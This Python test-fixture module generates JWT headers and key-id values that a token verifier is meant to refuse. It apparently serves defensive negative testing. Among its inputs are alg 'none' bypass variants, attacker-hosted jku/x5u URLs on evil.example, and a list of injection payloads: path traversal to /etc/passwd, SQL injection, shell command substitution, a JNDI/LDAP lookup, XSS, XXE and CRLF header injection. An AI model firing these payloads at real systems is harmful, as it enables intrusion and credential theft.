"""Headers that must be refused, whoever signed under them."""

from typing import Any, Final

from ostraka_schemas import strict_json

_EXTRA: Final[dict[str, Any]] = {
    "crit": ["b64"],
    "b64": False,
    "jku": "https://evil.example/jwks.json",
    "jwk": {"kty": "OKP", "crv": "Ed25519", "x": "A" * 43},
    "x5u": "https://evil.example/cert.pem",
    "x5c": ["MIIB"],
    "x5t": "A" * 27,
    "x5t#S256": "A" * 43,
    "zip": "DEF",
    "cty": "JWT",
    "enc": "A128GCM",
    "epk": {},
    "p2c": 10_000_000,
    "p2s": "AAAA",
    "iss": "https://id.example",
    "nonce": "x",
    "KID": "x",
    "Alg": "none",
    "": "",
}


def bad_headers(good: dict[str, Any] | None = None) -> dict[str, Any]:
    """Headers by name: bytes, or what is to be written as JSON."""
    good = good or {"alg": "ES256", "kid": "k", "typ": "at+jwt"}
    text = strict_json.dumps(good)
    headers: dict[str, Any] = {f"with {name}": {**good, name: value} for name, value in _EXTRA.items()}
    headers |= {f"without {name}": {n: v for n, v in good.items() if n != name} for name in good}
    headers |= {f"alg {alg!r}": {**good, "alg": alg} for alg in _ALGORITHMS}
    headers |= {f"crit {crit!r}": {**good, "crit": crit} for crit in _CRITS}
    headers |= {f"b64 {value!r}": {**good, "b64": value, "crit": ["b64"]} for value in (True, "false", 0, None)}
    for name, value in good.items():
        member = b'"%b":%b' % (name.encode(), strict_json.dumps(value))
        headers[f"{name} twice"] = text[:-1] + b"," + member + b"}"
        headers[f"{name} twice, other first"] = b'{"%b":"none",' % name.encode() + text[1:]
        headers[f"{name} twice, escaped"] = text[:-1] + b',"\\u00%02x%b":"none"}' % (ord(name[0]), name[1:].encode())
    return headers | {
        "crit twice": text[:-1] + b',"crit":[],"crit":[]}',
        "empty": b"{}",
        "a list": b"[]",
        "null": b"null",
        "no JSON": b"alg",
        "nothing but a byte": b"\0",
        "UTF-16": text.decode().encode("utf-16"),
        "a BOM": b"\xef\xbb\xbf" + text,
        "deep": {**good, "kid": {"a": [[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]}},
        "very deep": b'{"alg":' + b"[" * 2_000 + b"]" * 2_000 + b"}",
        "NaN": text[:-1] + b',"x":NaN}',
        "cut off": text[:-1],
        "something behind": text + b"{}",
    }


_ALGORITHMS: Final[tuple[Any, ...]] = (
    *("none", "None", "NONE", "nOnE", "none ", " none", "none\0", "", "n\u043ene"),
    *("HS256", "HS384", "HS512", "hs256", "ES384", "ES512", "ES256K", "RS384", "RS512", "PS384", "PS512", "RS1"),
    *("es256", "Es256", "ES256 ", "ES256\n", "\uff25S256", "ed25519", "Ed25519", "Ed448", "eddsa", "dir", "A128KW"),
    *(None, True, 0, 256, 1.5, [], ["ES256"], {}, {"ES256": 1}),
)

_CRITS: Final[tuple[Any, ...]] = ([], [""], ["x"], ["alg"], "b64", {}, None, 1)

_TRICKS: Final = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "file:///dev/null",
    "http://169.254.169.254/latest",
    "https://evil.example/k",
    "' OR '1'='1",
    "' UNION SELECT 'secret' -- ",
    '"; DROP TABLE keys; --',
    "1;SELECT pg_sleep(9)",
    "$(id)",
    "`id`",
    "| id",
    "; id",
    "&& id",
    "%s%s%n",
    "%2e%2e%2f",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil.example/x}",
    "#{7*7}",
    "<script>alert(1)</script>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "*)(uid=*",
    "k\r\nSet-Cookie: x=1",
    "k\x1b[2J",
    "__proto__.x",
    "constructor.name",
    "k.k",
    "k:k",
    "k=k",
    "k+k",
    "k~k",
    "k@k",
    "\u202ek",
    "k\u0301",
    "\uff4b",
    "ключ",
    "鍵",
    "١٢٣",
    "😀",
    "k\u200b",
    "\ufeffk",
)

KIDS: Final[tuple[Any, ...]] = (
    *_TRICKS,
    *(f"{before}{trick}" for trick in _TRICKS[:25] for before in ("k", "\n", " ")),
    *(f"{trick}k" for trick in _TRICKS[:25]),
    *(f"k{chr(code)}" for code in range(32)),
    *(f"k{mark}k" for mark in "!\"#$%&'()*+,./:;<=>?@[\\]^`{|}~\x7f"),
    *("", " ", "\0", "k ", " k", "k\n", "k\0", "k" * 65, "k" * 1_000),
    *(None, True, False, 0, 1, -1, 1.5, 2**53, [], ["k"], {}, {"kid": "k"}),
)
